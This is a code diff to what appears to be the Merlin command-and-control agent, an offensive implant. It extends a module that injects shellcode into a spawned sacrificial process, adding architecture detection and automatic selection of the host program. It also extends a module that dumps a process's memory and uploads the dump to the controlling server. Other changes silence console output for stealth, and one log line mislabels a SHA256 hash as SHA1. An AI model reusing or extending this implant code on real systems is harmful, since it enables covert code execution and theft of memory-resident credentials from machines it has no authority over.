@@ -30,11 +30,14 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
 )
 
 // CreateProcess spawns a child process with anonymous pipes, executes shellcode in it, and returns the output from the executed shellcode
 func CreateProcess(cmd jobs.Command) jobs.Results {
-	cli.Message(cli.NOTE, fmt.Sprintf("Executing CreateProcess module: %s", cmd.Command))
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Executing CreateProcess module: %s", cmd.Command))
+	}
 
 	var results jobs.Results
 	var err error
@@ -49,16 +52,42 @@ func CreateProcess(cmd jobs.Command) jobs.Results {
 	// 1. Shellcode
 	// 2. SpawnTo Executable
 	// 3. SpawnTo Arguments
-	results.Stdout, results.Stderr, err = ExecuteShellcodeCreateProcessWithPipe(cmd.Args[0], cmd.Args[1], cmd.Args[2])
+	// 4. Shellcode architecture (optional)
+	var arch string
+	if len(cmd.Args) > 3 {
+		arch, err = shellcodeArch(cmd.Args[3])
+		if err != nil {
+			results.Stderr = err.Error()
+			return results
+		}
+	} else if shellcode, errDecode := base64.StdEncoding.DecodeString(cmd.Args[0]); errDecode == nil {
+		arch = detectShellcodeArch(shellcode)
+		secure.Zero(shellcode)
+	}
+	// Pick a spawnto program of the shellcode's architecture
+	spawnto, err := sacrificialProcess(cmd.Args[1], arch)
+	if err != nil {
+		results.Stderr = fmt.Sprintf("the shellcode was not executed: %s", err)
+		return results
+	}
+
+	results.Stdout, results.Stderr, err = ExecuteShellcodeCreateProcessWithPipe(cmd.Args[0], spawnto, cmd.Args[2])
 	if err != nil {
 		results.Stderr = err.Error()
 	}
+	if spawnto != cmd.Args[1] {
+		results.Stdout = fmt.Sprintf("Ran the %s shellcode in %s instead of %s\n", arch, spawnto, cmd.Args[1]) + results.Stdout
+	}
 
 	if results.Stderr == "" {
-		cli.Message(cli.SUCCESS, results.Stdout)
+		if cli.Enabled {
+			cli.Message(cli.SUCCESS, results.Stdout)
+		}
 
 	} else {
-		cli.Message(cli.WARN, results.Stderr)
+		if cli.Enabled {
+			cli.Message(cli.WARN, results.Stderr)
+		}
 	}
 	return results
 }
@@ -67,7 +96,9 @@ func CreateProcess(cmd jobs.Command) jobs.Results {
 // The function returns the memory dump as a file upload to the server
 func MiniDump(cmd jobs.Command) (jobs.FileTransfer, error) {
 
-	cli.Message(cli.NOTE, "Received Minidump request")
+	if cli.Enabled {
+		cli.Message(cli.NOTE, "Received Minidump request")
+	}
 
 	//ensure the provided args are valid
 	if len(cmd.Args) < 2 {
@@ -95,15 +126,25 @@ func MiniDump(cmd jobs.Command) (jobs.FileTransfer, error) {
 		return jobs.FileTransfer{}, fmt.Errorf("there was an error executing the miniDump module:\r\n%s", miniDumpErr.Error())
 	}
 
+	if note, ok := miniD["Note"].(string); ok && note != "" {
+		if cli.Enabled {
+			cli.Message(cli.NOTE, note)
+		}
+	}
+
 	fileHash := sha256.New()
 	_, errW := io.WriteString(fileHash, string(miniD["FileContent"].([]byte)))
 	if errW != nil {
-		cli.Message(cli.WARN, fmt.Sprintf("There was an error generating the SHA256 file hash e:\r\n%s", errW.Error()))
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("There was an error generating the SHA256 file hash e:\r\n%s", errW.Error()))
+		}
 	}
 
-	cli.Message(cli.NOTE, fmt.Sprintf("Uploading minidump file of size %d bytes and a SHA1 hash of %x to the server",
-		len(miniD["FileContent"].([]byte)),
-		fileHash.Sum(nil)))
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Uploading minidump file of size %d bytes and a SHA1 hash of %x to the server",
+			len(miniD["FileContent"].([]byte)),
+			fileHash.Sum(nil)))
+	}
 
 	return jobs.FileTransfer{
 		FileLocation: fmt.Sprintf("%s.%d.dmp", miniD["ProcName"], miniD["ProcID"]),